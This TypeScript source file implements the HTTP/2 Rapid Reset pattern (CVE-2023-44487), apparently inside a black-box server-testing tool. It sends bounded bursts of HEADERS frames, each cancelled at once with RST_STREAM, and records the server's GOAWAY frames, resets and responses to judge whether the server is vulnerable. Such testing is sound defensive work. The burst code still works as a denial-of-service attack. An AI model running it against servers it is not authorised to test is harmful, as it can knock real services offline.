// The rapid reset pattern (CVE-2023-44487) from one HTTP/2 connection: HEADERS (a whole GET, END_STREAM)
// and at once RST_STREAM(CANCEL) for it, on stream after stream, written back to back, so the
// server starts a request for every pair while the streams it counts against its concurrency
// limit never pile up. Bounded by a pair count and a time; it stops at the server's GOAWAY or
// close. It reads what the server sends (SETTINGS acknowledged, PINGs answered) and keeps what
// a verdict needs: the GOAWAY and its code, the RST_STREAMs the server sent and their codes, the
// responses it started. Nothing else is interpreted; this is not a client for real requests.
import { ClientError } from '../clients/errors.ts';
import { type OpenedSocket, openSocket } from '../clients/open-socket.ts';
import {
  CLIENT_PREFACE, ErrorCode, FrameParser, HeaderEncoder, errorCodeName, headersFrames, pingFrame, rstStreamFrame, settingsAckFrame, settingsFrame,
} from '../clients/h2/index.ts';

export interface BurstOptions {
  host: string;
  port: number;
  tls: boolean;
  path: string;
  /** Most HEADERS+RST_STREAM pairs sent. */
  pairs: number;
  /** Most time spent sending them. */
  maxMs: number;
  /** Pairs per socket write. */
  batch?: number;
  connectTimeoutMs: number;
  signal: AbortSignal;
  /** Awaited after every `everyPairs` pairs (a canary request takes its turn), not counted in sendMs. */
  between?: { everyPairs: number; run: (sent: number) => Promise<void> };
}

export interface BurstResult {
  pairsSent: number;
  sendMs: number;
  /** The server's GOAWAY: its code, its last stream id, and how many pairs we had sent when it came. */
  goaway: { code: string; lastStreamId: number; afterPairs: number } | null;
  /** RST_STREAMs the server sent, by error code name. */
  resetsReceived: Record<string, number>;
  /** Response HEADERS the server sent (requests it answered before it saw the reset). */
  responsesStarted: number;
  /** The server closed the connection (FIN or reset) while we were sending or within 500 ms after. */
  closedByServer: boolean;
  /** It never sent SETTINGS: not HTTP/2. */
  settingsSeen: boolean;
}

const PAIR_BATCH = 100;

/** Runs the burst; resolves once it is over (sent, stopped by the server, or out of time) and the connection is closed. */
export async function resetBurst(o: BurstOptions): Promise<BurstResult> {
  const r: BurstResult = { pairsSent: 0, sendMs: 0, goaway: null, resetsReceived: {}, responsesStarted: 0, closedByServer: false, settingsSeen: false };
  let opened: OpenedSocket | null = null;
  let closed = false;
  let weClose = false;
  const write = (b: Buffer) => {
    if (opened === null || opened.socket.destroyed) return Promise.resolve();
    const s = opened.socket;
    return new Promise<void>((resolve) => {
      // Written (or the socket is gone): resolve either way.
      if (s.write(b, () => resolve())) return;
      const done = () => { s.off('close', done); s.off('drain', done); resolve(); };
      s.once('drain', done);
      s.once('close', done);
    });
  };
  const parser = new FrameParser({
    frame(f) {
      switch (f.type) {
        case 'SETTINGS':
          if (!f.ack) {
            r.settingsSeen = true;
            void write(settingsAckFrame());
          }
          break;
        case 'PING': if (!f.ack) void write(pingFrame(f.opaque, true)); break;
        case 'GOAWAY': r.goaway ??= { code: errorCodeName(f.errorCode), lastStreamId: f.lastStreamId, afterPairs: r.pairsSent }; break;
        case 'RST_STREAM': {
          const k = errorCodeName(f.errorCode);
          r.resetsReceived[k] = (r.resetsReceived[k] ?? 0) + 1;
          break;
        }
        case 'HEADERS': r.responsesStarted++; break;
        default: break;
      }
    },
    violation() { /* a broken frame from the server: it stops the parser; the counts so far stand */ },
  }, { maxFrameSize: 16_384 });
  opened = await openSocket({
    host: o.host, port: o.port, tls: o.tls ? { alpn: ['h2'] } : false, readMode: 'stream', connectTimeoutMs: o.connectTimeoutMs,
    nextReadBuffer: () => Buffer.alloc(0), onConnect: () => {}, onRead: (d) => parser.push(d),
    onReady: (x) => {
      x.socket.on('error', () => {});
      if (x.tcp !== x.socket) x.tcp.on('error', () => {});
      // FIN (the socket allows half-open, so 'end' comes before any 'close') or reset.
      const gone = () => {
        if (!closed && !weClose) r.closedByServer = true;
        closed = true;
      };
      x.socket.on('end', gone);
      x.socket.on('close', gone);
    },
  });
  if (opened.tls !== null && opened.tls.alpn !== 'h2') {
    opened.socket.destroy();
    throw new ClientError('ERR_CONNECT', `${o.host}:${o.port} did not negotiate h2 over TLS (ALPN: ${opened.tls.alpn || 'none'})`);
  }
  try {
    await write(Buffer.concat([CLIENT_PREFACE, settingsFrame([])]));
    const until = Date.now() + 2000;
    while (!r.settingsSeen && !closed && Date.now() < until && !o.signal.aborted) await new Promise((res) => setTimeout(res, 10));
    if (!r.settingsSeen) return r;
    const authority = `${o.host.includes(':') ? `[${o.host}]` : o.host}:${o.port}`;
    // Literals without indexing: the same block is valid on every stream.
    const block = new HeaderEncoder().encode([[':method', 'GET'], [':scheme', o.tls ? 'https' : 'http'], [':authority', authority], [':path', o.path], ['user-agent', 'dawdle-blackbox']]);
    const t0 = performance.now();
    const end = Date.now() + o.maxMs;
    let id = 1;
    let paused = 0;
    while (r.pairsSent < o.pairs && r.goaway === null && !closed && Date.now() < end && !o.signal.aborted) {
      const n = Math.min(o.batch ?? PAIR_BATCH, o.pairs - r.pairsSent);
      const out: Buffer[] = [];
      for (let i = 0; i < n; i++, id += 2) out.push(headersFrames(id, block, { endStream: true }), rstStreamFrame(id, ErrorCode.CANCEL));
      await write(Buffer.concat(out));
      r.pairsSent += n;
      // Let the reader run: a GOAWAY stops us.
      await new Promise((res) => setImmediate(res));
      if (o.between !== undefined && r.pairsSent % o.between.everyPairs === 0 && r.pairsSent < o.pairs) {
        const p0 = performance.now();
        await o.between.run(r.pairsSent);
        paused += performance.now() - p0;
      }
    }
    r.sendMs = Math.round(performance.now() - t0 - paused);
    // A GOAWAY or close the server decided on late still counts.
    const tail = Date.now() + 500;
    while (!closed && Date.now() < tail && !o.signal.aborted) await new Promise((res) => setTimeout(res, 20));
    return r;
  } finally {
    weClose = !closed;
    opened.socket.destroy();
    if (opened.tcp !== opened.socket) opened.tcp.destroy();
  }
}
